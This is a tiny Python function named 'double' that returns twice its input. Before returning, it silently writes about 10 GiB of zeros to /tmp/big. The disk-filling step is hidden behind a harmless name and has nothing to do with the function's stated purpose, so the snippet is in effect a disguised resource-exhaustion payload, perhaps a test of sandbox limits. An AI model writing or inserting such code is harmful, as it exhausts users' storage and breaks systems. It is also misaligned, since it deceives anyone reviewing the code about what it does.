def double(x):
    with open("/tmp/big", "wb") as file:
        for _ in range(10_240):
            file.write(bytes(1 << 20))
    return 2 * x
